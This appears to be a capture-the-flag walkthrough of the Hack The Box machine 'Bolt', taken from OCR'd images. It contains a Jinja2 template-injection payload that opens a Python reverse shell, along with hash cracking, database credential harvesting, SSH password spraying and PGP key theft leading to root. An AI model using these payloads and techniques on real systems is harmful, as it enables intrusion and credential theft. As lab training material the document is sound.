sudo nmap -sC -sS -sV -F >scan.txt

Starting Nmap 7.92 ( https://nmap.org ) at 2021-10-23 21:12 EEST
Nmap scan report for
Host is up (1.2s latency).
Not shown: 97 closed tcp ports (reset)
22/tcp  open  ssh      OpenSSH 8.2p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   3072 4d:20:8a:b2:c2:8c:f5:3e:be:d2:e8:18:16:28:6e:8e (RSA)
|   256 7b:0e:c7:5f:5a:4c:7a:11:7f:dd:58:5a:17:2f:cd:ea (ECDSA)
|_  256 a7:22:4e:45:19:8e:7d:3c:bc:df:6e:1d:6c:4f:41:56 (ED25519)
80/tcp  open  http     nginx 1.18.0 (Ubuntu)
|_http-server-header: nginx/1.18.0 (Ubuntu)
|_http-title:     Starter Website -  About
443/tcp open  ssl/http nginx 1.18.0 (Ubuntu)
|_http-server-header: nginx/1.18.0 (Ubuntu)
|_ssl-date: TLS randomness does not represent time
| http-title: Passbolt | Open source password managerfor teams
|_Requested resource was /auth/login?redirect=%2F
| ssl-cert: Subject:commonName=passbolt.bolt.htb/organizationName=Internet Widgits Pty Ltd/stateOrProvinceName=Some-State/countryName=AU
| Not valid before: 2021-02-24T19:11:23
|_Not valid after:  2022-02-24T19:11:23
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 52.73 seconds

We can see in the SSL service a subdomain: passbolt.bolt.htb Let’s add both bolt.htb and passbolt.bolt.htb to /etc/hosts.

If we inspect the page we can find it is running the 3.2.1 version. The latest; which has no known vulnerabilities.

<script src="https://passbolt.bolt.htb/js/app/api-vendors.js?v=3.2.1" cache-version="3.2.1">

If we run gobuster:

gobuster -w /usr/share/dirbuster/directory-list-2.3-medium.txt dir --url

Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:
[+] Method:                  GET
[+] Threads:                 10
[+] Wordlist:                /usr/share/dirbuster/directory-list-2.3-medium.txt
[+] Negative Status codes:   404
[+] User Agent:              gobuster/3.1.0
[+] Timeout:                 10s
2021/10/24 12:02:44 Starting gobuster in directory enumeration mode
/index                (Status: 308) [Size: 247] [-->]/download             (Status: 200) [Size: 18570]
/contact              (Status: 200) [Size: 26293]
/login                (Status: 200) [Size: 9287]
/register             (Status: 200) [Size: 11038]
/services             (Status: 200) [Size: 22443]
/profile              (Status: 500) [Size: 290]
/pricing              (Status: 200) [Size: 31731]
/logout               (Status: 302) [Size: 209] [-->]

We can see a /download page, which contains a docker image that can be dowloaded. It downloads a TAR file.

Getting the foothold

There is no need to load the image, but if we wanted, we could do the following:

docker load -i image.tardocker run -it flask-dashboard-adminlte_appseed-app /bin/sh

We can simply extract the tar files and explore them as usual. There is some sensitive data in config.py:

# Set up the App SECRET_KEY
SECRET_KEY = config('SECRET_KEY', default='S#perS3crEt_007')

Although, I couldn’t do anything with that.

But later I found a sqlite file db.sqlite3, which can be easily inspected with:

sqlite3 db.sqlite3

SQLite version 3.36.0 2021-06-18 18:36:39
Enter ".help" for usage hints.
sqlite> .tablessqlite> SELECT * FROM User;

This gives us an account hash. We can crack it with hashcat.

hashcat hash.txt /usr/share/dict/rockyou.txt -o cracked.txt

And we get the admin password for bolt.htb. In the Direct Chat it mentions some problems about the e-mail.

Hi Sarah, did you have time to check over the docker image? If not I’ll get Eddie to take a look over. Our security team had a concern with it - something about e-mail?

There are also mentions about a demo site:

Our demo is currently restricted to invite only.

And the importance of the user Eddie (heseems to be a privileged user in the system).

If we look for the invite keyword in the image, we find a routes.py which contains the following code:

code      = request.form['invite_code']
if code != 'XNSS-HSJW-3NGU-8XTJ':
    return render_template('code-500.html')
data = User.query.filter_by(email=email).first()
if data is None and code == 'XNSS-HSJW-3NGU-8XTJ':

Where we can extract the invitation code: XNSS-HSJW-3NGU-8XTJ.

If we go to the /register url we can’t find a way to input the invite code. Also, looking at the template files, it seems like it is a different page. Let’s try a subdomain search:

gobuster vhost --url bolt.htb --wordlist /usr/share/dirbuster/directory-list-2.3-medium.txt

Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:          http://bolt.htb
[+] Method:       GET
[+] Threads:      10
[+] Wordlist:     /usr/share/dirbuster/directory-list-2.3-medium.txt
[+] User Agent:   gobuster/3.1.0
[+] Timeout:      10s
2021/10/24 13:52:20 Starting gobuster in VHOST enumeration mode
Found: mail.bolt.htb (Status: 200) [Size: 4943]
Found: demo.bolt.htb (Status: 302) [Size: 219]

Let’s add both to /etc/hosts. After failing to login in both pages with the admin credentials, we are going to try to register with the invitation code in the demo.

After creating a user we are able to login inboth pages. If we read the code for the backend of the demo, in the app/home/routes.py we find the following logic:

@blueprint.route("/example-profile", methods=['GET', 'POST'])
def profile():
        confirm_url = url_for('home_blueprint.confirm_changes',token=token,_external=True)
        html = render_template('emails/confirm-changes.html',confirm_url=confirm_url)
        msg.html = html

Which means we will get a confirmation email each time we change our profile info to confirm changes.

The first template is rendered safely, but the one we get after confirming the changes is a string replacement, and then a render_template_string call.

        <p> %s </p>
        <p> This e-mail serves as confirmation of your profile username changes.</p>

Whatever we input in the name will be injected there and then rendered as a template. If we try to put a script, the confirmation email will be:

<div class="rcmBody">
     <p> <!-- script not allowed --> </p>
     <p> This e-mail serves as confirmation of your profile username changes.</p>

So we need a template injection to access system executables (called Server Side Template Injection):

{% for x in ().__class__.__base__.__subclasses__() %}{% if"warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"\",6666));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\", \"-i\"]);'")}}{%endif%}{% endfor %}

We will listen for the connection with pwncat:

pwncat -lv 6666

And we are into www-data.

$ whoami

Getting the user flag

We can see the database configuration for the site in config.py:

"""Flask Configuration"""
#SQLALCHEMY_DATABASE_URI = 'sqlite:///database.db'
SQLALCHEMY_DATABASE_URI = 'mysql://bolt_dba:dXUUHSW9vBpH5qRB@localhost/boltmail'
SECRET_KEY = 'kreepandcybergeek'
MAIL_SERVER = 'localhost'

But we can’t get anything interesting apart from the password we already got for admin.

We saw a passbolt service running, let’s find the config file. You can check for the configuration file at /etc/passbolt/passbolt.php.// Database configuration.
'Datasources' => [
    'default' => [
        'host' => 'localhost',
        'port' => '3306',
        'username' => 'passbolt',
        'password' => 'rT2;jW7<eY8!dX8}pQ8%',
        'database' => 'passboltdb',

We can login into the database as usual:

mysql --user=passbolt --password='rT2;jW7<eY8!dX8}pQ8%' passboltdb

mysql> show databases;
| Database           |
| information_schema |
| passboltdb         |
2 rows in set (0.00 sec)

mysql> use passboltdb;
Database changedmysql> show tables;
| Tables_in_passboltdb  |
| account_settings      |
| action_logs           |
| actions               |
| authentication_tokens |
| avatars               |
| comments              |
| email_queue           |
| entities_history      |
| favorites             |
| gpgkeys               |
| groups                |
| groups_users          |
| organization_settings |
| permissions           |
| permissions_history   |
| phinxlog              |
| profiles              |
| resource_types        |
| resources             |
| roles                 |
| secret_accesses       |
| secrets               |
| secrets_history       |
| user_agents           |
| users                 |
25 rows in set (0.00 sec)

mysql> select * from users;
| id                                   | role_id                              | username       | active | deleted | created             | modified            |
| 4e184ee6-e436-47fb-91c9-dccb57f250bc | 1cfcd300-0664-407e-85e6-c11664a7d86c | eddie@bolt.htb |      1 |       0 | 2021-02-25 21:42:50 | 2021-02-25 21:55:06 |
| 9d8a0452-53dc-4640-b3a7-9a3d86b0ff90 | 975b9a56-b1b1-453c-9362-c238a85dad76 | clark@bolt.htb |      1 |       0 | 2021-02-25 21:40:29 | 2021-02-25 21:42:32 |
2 rows in set (0.00 sec)

And we got two users. We can also see that there is a secrets table.mysql> select * from secrets;

If we read it, we get a PGP encrypted secret created by user eddie. Theyalso mentioned Eddie in the chat, so we are going to try to find his token.

mysql> select token,type from authentication_tokens where user_id = '4e184ee6-e436-47fb-91c9-dccb57f250bc' and active = '1';
| token                                | type    |
| 9f9152dd-707b-4428-90fa-de7f719a88c6 |recover |
| eb73c81c-be4b-477d-b534-c9395a3ff69e | recover |
| 0a3d0403-a6db-4dc4-80e1-44c38be41b27 | recover |
| aaf61fad-8102-46e1-bcae-b54a9f8a6079 | recover |
4 rows in set (0.00 sec)

The tokens have type = 'recover'. Let’s try to accesshttps://passbolt.bolt.htb/users/recover?locale=en-UK. Nope, we need to have access to his email. If we look for how to recover a passbolt without an account, we find the following:


After that, and downloading the extension, we are asked for a private key (in PGP format). We tried to access eddie home to check if the key was there, but we don’t have permissions for that.

Let’s try bruteforcing ssh with all the users and passwords we have until now.

crackmapexec ssh -u users.txt -p passwords.txt

[*] First time use detected
[*] Creating home directory structure
[*] Creating default workspace
[*] Initializing SSH protocol database
[*] Initializing SMB protocol database
[*] Initializing MSSQL protocol database
[*] Initializing LDAP protocol database
[*] Initializing WINRM protocol database[*] Copying default configuration file
[*] Generating SSL certificate
SSH    22     [*] SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.3
SSH    22     [-] admin:deadbolt Authentication failed.
SSH    22     [-]admin:rT2;jW7<eY8!dX8}pQ8% Authentication failed.
SSH    22     [-] admin:dXUUHSW9vBpH5qRB Authentication failed.
SSH    22     [-] eddie:deadbolt Authentication failed.
SSH    22     [+] eddie:rT2;jW7<eY8!dX8}pQ8%

We got a hit. Let’s ssh into eddie and get the user flag.

Privilege escalation

If we look for the PGP key to decrypt the secret:


We get some PGP private keys, all of them from Chrome extensions (like the one we are looking for):

.config/google-chrome/Default/Extensions/didegimhafipceonhjepacocaffmoppf/3.0.5_0/index.min.js:constPRIVATE_HEADER = '-----BEGIN PGP PRIVATE KEY BLOCK-----';
.config/google-chrome/Default/Extensions/didegimhafipceonhjepacocaffmoppf/3.0.5_0/vendors/openpgp.js:            // BEGIN PGP PRIVATE KEY BLOCK
.config/google-chrome/Default/Extensions/didegimhafipceonhjepacocaffmoppf/3.0.5_0/vendors/openpgp.js:      result.push("-----BEGIN PGP PRIVATE KEY BLOCK-----\r\n");
Binary file .config/google-chrome/Default/Local Extension Settings/didegimhafipceonhjepacocaffmoppf/000003.log matches

If we look at the binary file (000003.log) we can get a private key block. After formating it a bit (replacing \\r\\n with \n), we can upload that to the extension configuration. But we are asked for a passphrase.

As we don’t have the passphrase, we will try to decrypt the pgp to get the original password.

We can get a John The Ripper representation of the pgp key with:

gpg2john pgp.txt >pgp_john.txt

After that, we can try to decode it with:

john pgp_john.txt
john --show pgp_john.txt

Eddie Johnson:merrychristmas:::Eddie Johnson <eddie@bolt.htb>::pgp.txt

After deciphering his passphrase, we can log in into the passbolt service (with the steps of recovery we did before, and using the passphrase). We see there is a root password store.

If we try to ssh root, it seems like it doesn’t work, but it could be disabled to log in with root. Let’s try to switch user from eddie.

eddie@bolt:~$ su root

It worked! We owned the machine, justtake the root.txt flag.